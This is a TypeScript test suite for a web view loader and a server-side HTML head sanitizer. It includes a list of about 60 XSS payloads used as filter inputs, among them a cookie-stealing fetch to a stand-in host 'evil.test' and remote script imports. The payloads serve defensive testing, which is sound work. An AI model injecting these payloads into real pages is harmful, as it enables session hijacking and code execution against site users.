import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { filterHead } from '../server/head-filter.ts';
import { createFakeBrowser, replyOf } from './testing.ts';
import type { FakeSlot } from './testing.ts';
import { VIEW_STATES } from './view-state-transitions.ts';

/** One random event of a page. */
type Step =
  | { readonly do: 'take'; readonly view: string; readonly isPage: boolean }
  | { readonly do: 'release'; readonly at: number }
  | { readonly do: 'wait'; readonly ms: number }
  | { readonly do: 'reload'; readonly view: string }
  | { readonly do: 'break'; readonly view: string; readonly times: number };

const VIEW = fc.constantFrom('header', 'coupon', 'casino');
const STEP: fc.Arbitrary<Step> = fc.oneof(
  fc.record({ do: fc.constant('take' as const), view: VIEW, isPage: fc.boolean() }),
  fc.record({ do: fc.constant('release' as const), at: fc.nat(20) }),
  fc.record({ do: fc.constant('wait' as const), ms: fc.constantFrom(0, 1, 500, 1000, 2000, 4000, 11_000) }),
  fc.record({ do: fc.constant('reload' as const), view: VIEW }),
  fc.record({ do: fc.constant('break' as const), view: VIEW, times: fc.integer({ min: 1, max: 5 }) }),
);

const STATES: ReadonlySet<number> = new Set(Object.values(VIEW_STATES));

describe('a view that fails, hangs or is mounted and unmounted at random', () => {
  it('[RL-66] 500 random runs: only known states, correct counts, nothing left at the end', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(STEP, { maxLength: 25 }), async (steps) => {
        const browser = createFakeBrowser();
        const taken: { view: string; isPage: boolean; slot: FakeSlot }[] = [];
        for (const step of steps) {
          if (step.do === 'take') {
            const content = step.isPage
              ? ({ kind: 'page' } as const)
              : ({ kind: 'component', name: 'part', props: {} } as const);
            taken.push({ ...step, slot: browser.slot(step.view, content) });
          } else if (step.do === 'release')
            taken.splice(step.at % Math.max(1, taken.length), 1)[0]?.slot.release();
          else if (step.do === 'wait') await browser.clock.advance(step.ms);
          else if (step.do === 'reload') browser.views.reload(step.view);
          else browser.brokenScripts.set(step.view, step.times);
          for (const entry of browser.views.entries()) {
            const users = taken.filter(({ view }) => view === entry.meta.appName);
            expect(STATES.has(entry.state)).toBe(true);
            expect(entry.viewCount).toBe(users.filter(({ isPage }) => isPage).length);
            expect(entry.componentCount).toBe(users.filter(({ isPage }) => !isPage).length);
          }
        }
        for (const { slot } of taken) slot.release();
        await browser.clock.advance(60_000);
        expect(browser.views.entries()).toEqual([]);
        expect(browser.clock.timers()).toBe(0);
        const balance = (sign: '+' | '-') =>
          browser.log.filter((line) => line.startsWith(`css ${sign}`)).length;
        expect(balance('+')).toBe(balance('-'));
      }),
      { numRuns: 500 },
    );
  });

  it('[RL-66] 50 loads and unloads leave nothing behind', async () => {
    const browser = createFakeBrowser();
    for (let turn = 0; turn < 50; turn += 1) {
      const slot = browser.slot('casino');
      await browser.clock.advance(10);
      expect(browser.views.entries()[0]?.state).toBe(VIEW_STATES.ready);
      slot.release();
      await browser.clock.advance(10);
      expect(browser.views.entries()).toEqual([]);
    }
    const count = (start: string) => browser.log.filter((line) => line.startsWith(start)).length;
    expect([count('mount'), count('unmount'), count('signal'), count('overlay')]).toEqual([50, 50, 50, 50]);
    expect(browser.clock.timers()).toBe(0);
  });
});

describe('code in a reply', () => {
  const withCode = (appName: string) =>
    ({ outcome: 'ready', reply: replyOf(appName, { codeToEval: 'alert(1)' }) }) as const;

  it('[RL-65] is refused by default: the view fails and no code runs', async () => {
    const browser = createFakeBrowser();
    browser.answers.set('casino', [withCode('casino')]);
    browser.slot('casino');
    await browser.clock.advance(60_000);
    expect(browser.views.entries()[0]?.state).toBe(VIEW_STATES.error);
    expect(browser.log.filter((line) => line.startsWith('code'))).toEqual([]);
    expect(String(browser.reports[0]?.error)).toBe('Error: the operator does not allow its code');
  });

  it('[RL-65] runs when the operator allows it', async () => {
    const browser = createFakeBrowser();
    browser.answers.set('with-code', [withCode('with-code')]);
    browser.slot('with-code');
    await browser.clock.advance(10);
    expect(browser.log).toContain('code alert(1)');
  });
});

const RUNS = ['alert(1)', "fetch('//evil.test?'+document.cookie)", 'import("//evil.test/x.js")'];
const HEADS = [
  ...RUNS.flatMap((code) => [
    `<script>${code}</script>`,
    `<SCRIPT SRC="//evil.test/x.js"></SCRIPT>`,
    `<script type=module>${code}</script>`,
    `<script type="application/ld+json"></script><script>${code}</script>`,
    `<script type="application/ld+json">{"a":"</script><script>${code}//"}</script>`,
    `<meta name="x" content="&quot;><script>${code}</script>">`,
    `<meta name="x" content='"><script>${code}</script>'>`,
    `<link rel="preload" href="x" onload="${code}">`,
    `<link rel="canonical" href='"><script>${code}</script>'>`,
    `<style>@import "//evil.test"</style><script>${code}</script>`,
    `<img src=x onerror="${code}">`,
    `<svg onload="${code}">`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    `<body onload="${code}">`,
    `<meta onclick="${code}" name="x" content="y">`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<script\n>${code}</script\n>`,
    `<!--><script>${code}</script>-->`,
  ]),
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<META HTTP-EQUIV="Content-Security-Policy" CONTENT="script-src *">',
  '<base href="//evil.test/">',
  '<link rel="stylesheet" href="//evil.test/x.css">',
  '<link rel="import" href="//evil.test/x.html">',
  '<link rel="manifest" href="//evil.test/m.json">',
  '<title>x</title>',
  '<object data="//evil.test"></object>',
  '<embed src="//evil.test">',
  '<form action="//evil.test">',
  '</head><body><script>alert(1)</script>',
];

describe('the head of a reply', () => {
  it('[RL-65] the list has 60 payloads', () => expect(HEADS.length).toBeGreaterThanOrEqual(60));

  it.each(HEADS)('[RL-65] %j runs no code', (head) => {
    const { html } = filterHead(head);
    // Only complete `meta` and `link` elements and inert data may remain, with attributes that are known to be
    // harmless.
    const inert =
      /^(?:<meta(?: (?:name|property|content|charset)="[^"<]*")*>|<link(?: (?:rel|href|hreflang|as|type|crossorigin|media)="[^"<]*")*>|<script type="application\/ld\+json">[^<]*<\/script>)*$/;
    expect(html).toMatch(inert);
    expect(html).not.toMatch(/http-equiv|rel="(?:stylesheet|import|manifest)"/i);
  });
});
